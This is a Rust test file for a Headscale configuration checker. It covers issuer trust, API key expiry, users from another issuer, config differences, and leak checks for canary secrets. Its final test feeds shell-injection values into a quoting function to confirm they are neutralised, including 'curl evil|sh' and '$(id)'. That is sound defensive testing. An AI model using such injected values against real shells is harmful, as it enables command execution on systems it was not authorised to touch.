use super::*;
use crate::config::{Environment, FileText, read_text};
use crate::domain::finding::Level;
use crate::domain::time::Timestamp;

#[derive(Debug)]
struct At(u64);

impl Clock for At {
    fn now(&self) -> Timestamp {
        Timestamp::from_unix(self.0)
    }
}

fn settings(headscale: &str) -> Settings {
    let text = format!(
        "server_url: https://hs.company\nlisten: [{{ address: '0.0.0.0:443', tls: {{ cert_path: /c, \
         key_path: /k }} }}]\nheadscale: {headscale}\noidc: {{ issuer: 'https://id.company/', client_id: hw, \
         client_secret: canary-of-the-provider, allowed_groups: [a] }}\n"
    );
    let none = |_: &std::path::Path| -> std::io::Result<FileText> { unreachable!() };
    read_text(&text, &Environment::default(), &none).unwrap_or_else(|why| panic!("{why}"))
}

const ISSUER: &str = "{ sign_in: issuer, url: 'http://127.0.0.1:8080', issuer: { url: 'http://127.0.0.1:8181', client_secret: canary-of-headscale, node_expiry: 90d } }";

#[test]
fn whether_headscale_trusts_an_issuer_is_right_or_wrong_by_mode() {
    let none = SignIn::None;
    let own = SignIn::Own;
    let issuer = settings(ISSUER).headscale.sign_in;
    for (found, sign_in, level) in [
        (Trust::Trusts, &issuer, Level::Ok),
        (Trust::Trusts, &own, Level::Ok),
        (Trust::Trusts, &none, Level::Failure),
        (Trust::FellBack, &issuer, Level::Failure),
        (Trust::FellBack, &own, Level::Failure),
        (Trust::FellBack, &none, Level::Ok),
        (Trust::Unclear(502), &issuer, Level::Warning),
    ] {
        let finding = judge_trust(found, sign_in);
        assert_eq!(finding.level, level, "{found:?} {sign_in:?}: {finding:?}");
    }
}

#[test]
fn a_key_is_known_by_its_prefix_and_warned_of_a_week_before_its_end() {
    let key = Secret::new("hskey-api-abcdefghijkl-0123456789".to_owned());
    let at = At(1_800_000_000);
    let list = |prefix: &str, end: &str| {
        format!(
            "{{\"apiKeys\":[{{\"prefix\":\"hskey-api-zzzzzzzzzzzz-***\",\"expiration\":\"2000-01-01T00:00:00Z\"}},{{\"prefix\":\"{prefix}\",\"expiration\":\"{end}\"}}]}}"
        )
    };
    let near = rfc3339(Timestamp::from_unix(1_800_000_000 + 3600));
    let far = rfc3339(Timestamp::from_unix(1_800_000_000 + 90 * 86_400));
    for (body, level, part) in [
        (list("hskey-api-abcdefghijkl-***", &far), Level::Ok, "until"),
        (
            list("hskey-api-abcdefghijkl-***", &near),
            Level::Warning,
            "until",
        ),
        (list("hskey-***", &near), Level::Ok, "takes the key"),
        (list("other***", &near), Level::Ok, "takes the key"),
        ("{}".to_owned(), Level::Ok, "takes the key"),
        ("nonsense".to_owned(), Level::Ok, "takes the key"),
    ] {
        let finding = judge_key(body.as_bytes(), &key, &at);
        assert_eq!(finding.level, level, "{body}");
        assert!(finding.told.contains(part), "{body}: {}", finding.told);
        assert!(!format!("{finding:?}").contains("0123456789"));
    }
}

#[test]
fn users_of_another_issuer_are_a_failure_with_the_way_out() {
    let issuer = Issuer::new("http://127.0.0.1:8181");
    let list = |ids: &[&str]| {
        let ids = ids
            .iter()
            .map(|id| format!("{{\"name\":\"x\",\"providerId\":\"{id}\"}}"));
        format!("{{\"users\":[{}]}}", ids.collect::<Vec<_>>().join(","))
    };
    for (body, level, part) in [
        (list(&["", "http://127.0.0.1:8181/7"]), Level::Ok, "1 users"),
        (list(&[]), Level::Ok, "0 users"),
        (
            list(&["http://127.0.0.1:8181/7", "https://ak.company/o/hs/8"]),
            Level::Failure,
            "1 users are of another issuer (https://ak.company/o/hs)",
        ),
        (
            list(&["http://127.0.0.1:81810/7"]),
            Level::Failure,
            "another issuer",
        ),
        ("nonsense".to_owned(), Level::Skipped, "cannot be read"),
    ] {
        let finding = judge_users(body.as_bytes(), &issuer);
        assert_eq!(finding.level, level, "{body}: {finding:?}");
        assert!(finding.told.contains(part), "{body}: {}", finding.told);
    }
}

const FILE: &str = "\
server_url: https://hs.company/
listen_addr: 127.0.0.1:8080
trusted_proxies: [127.0.0.1/32]
oidc:
  issuer: http://127.0.0.1:8181
  client_id: headscale
  client_secret: canary-of-headscale
  use_expiry_from_token: true
";

/// The findings that are not as they should be.
fn wrong(settings: &Settings, text: &str) -> Vec<(String, Level)> {
    let read = |path: &std::path::Path| -> std::io::Result<FileText> {
        match path.to_str() {
            Some("/etc/headscale/secret") => Ok(FileText {
                text: "canary-of-headscale\n".to_owned(),
                mode: 0o600,
            }),
            _ => Err(std::io::ErrorKind::NotFound.into()),
        }
    };
    let findings = check_config(settings, text, "/etc/headscale/config.yaml", &read);
    assert!(!format!("{findings:?}").contains("canary"), "{findings:?}");
    let wrong = findings
        .into_iter()
        .filter(|finding| finding.level != Level::Ok);
    wrong
        .map(|finding| (finding.check.to_owned(), finding.level))
        .collect()
}

#[test]
fn each_difference_between_the_two_files_is_a_finding() {
    use Level::{Failure, Skipped, Warning};
    let settings = settings(ISSUER);
    let with = |from: &str, to: &str| FILE.replace(from, to);
    assert_eq!(wrong(&settings, FILE), []);
    assert_eq!(
        wrong(
            &settings,
            &with(
                "client_secret: canary-of-headscale",
                "client_secret_path: /etc/headscale/secret"
            )
        ),
        []
    );
    for (text, check, level) in [
        (with("hs.company", "other.company"), "server_url", Failure),
        (
            with("127.0.0.1:8080", "127.0.0.1:8081"),
            "listen_addr",
            Failure,
        ),
        (
            with("127.0.0.1:8080", "0.0.0.0:8080"),
            "listen_addr",
            Warning,
        ),
        (
            with("[127.0.0.1/32]", "[10.0.0.0/8]"),
            "trusted_proxies",
            Warning,
        ),
        (with("[127.0.0.1/32]", "[]"), "trusted_proxies", Warning),
        (with("8181", "8181/"), "issuer", Failure),
        (
            with("client_id: headscale", "client_id: hs"),
            "client_id",
            Failure,
        ),
        (
            with("canary-of-headscale", "canary-of-somebody"),
            "client_secret",
            Failure,
        ),
        (
            with(
                "client_secret: canary-of-headscale",
                "client_secret_path: ${CREDENTIALS_DIRECTORY}/x",
            ),
            "client_secret",
            Skipped,
        ),
        (
            with(
                "client_secret: canary-of-headscale",
                "client_secret_path: /nowhere",
            ),
            "client_secret",
            Skipped,
        ),
        (
            with("  client_secret: canary-of-headscale\n", ""),
            "client_secret",
            Skipped,
        ),
        (
            with("token: true", "token: false"),
            "use_expiry_from_token",
            Failure,
        ),
        (format!("{FILE}  scope: [openid]\n"), "scope", Warning),
        (format!("{FILE}  expiry: 180d\n"), "retired_keys", Warning),
    ] {
        let expected = (format!("headscale.config.{check}"), level);
        assert_eq!(wrong(&settings, &text), [expected], "{text}");
    }
    let broken = wrong(&settings, "a: [");
    assert_eq!(broken, [("headscale.config".to_owned(), Failure)]);
}

#[test]
fn in_the_other_modes_the_block_is_the_providers_or_none() {
    let own = settings("{ sign_in: own, url: 'http://127.0.0.1:8080' }");
    let theirs = FILE
        .replace("http://127.0.0.1:8181", "https://id.company/")
        .replace("client_id: headscale", "client_id: hw")
        .replace("canary-of-headscale", "canary-of-the-provider");
    assert_eq!(wrong(&own, &theirs), []);
    assert_eq!(wrong(&own, FILE).len(), 3);
    let none = settings("{ sign_in: none, url: 'http://127.0.0.1:8080' }");
    let (without, _) = FILE.split_once("oidc:").unwrap();
    assert_eq!(wrong(&none, without), []);
    assert_eq!(
        wrong(&none, FILE),
        [("headscale.config.issuer".to_owned(), Level::Failure)]
    );
}

#[test]
fn what_a_stranger_chose_is_one_word_to_the_shell_that_it_is_pasted_into() {
    for (text, word) in [
        ("https://id.old/realms/a_b~c", "https://id.old/realms/a_b~c"),
        (
            "https://old/x;curl evil|sh;",
            "'https://old/x;curl evil|sh;'",
        ),
        ("https://old/$(id)`id`", "'https://old/$(id)`id`'"),
        ("a'b", "'a'\\''b'"),
        ("-x", "'-x'"),
        ("", "''"),
    ] {
        assert_eq!(for_shell(text), word);
        let said = std::process::Command::new("sh")
            .args(["-c", &format!("printf %s {word}")])
            .output()
            .unwrap();
        assert_eq!(said.stdout, text.as_bytes(), "{text}");
    }
    let users = r#"{"users":[{"providerId":"https://old/x;id;/y"}]}"#;
    let finding = judge_users(users.as_bytes(), &Issuer::new("https://id.company/"));
    let told = format!("{finding:?}");
    assert!(told.contains("--from 'https://old/x;id;'"), "{told}");
}
